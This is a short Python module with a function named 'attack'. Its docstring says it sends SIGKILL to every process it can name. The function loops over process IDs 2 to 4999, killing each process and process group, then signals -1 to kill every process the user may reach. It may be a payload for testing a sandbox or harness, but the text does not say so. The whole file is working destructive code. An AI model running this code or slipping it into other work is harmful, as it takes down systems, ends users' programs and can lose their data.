"""Sends SIGKILL to every process it can name."""

import os
import signal


def attack(*args, **kwargs):
    for pid in range(2, 5000):
        for target in (pid, -pid):
            try:
                os.kill(target, signal.SIGKILL)
            except OSError:
                pass
    os.kill(-1, signal.SIGKILL)
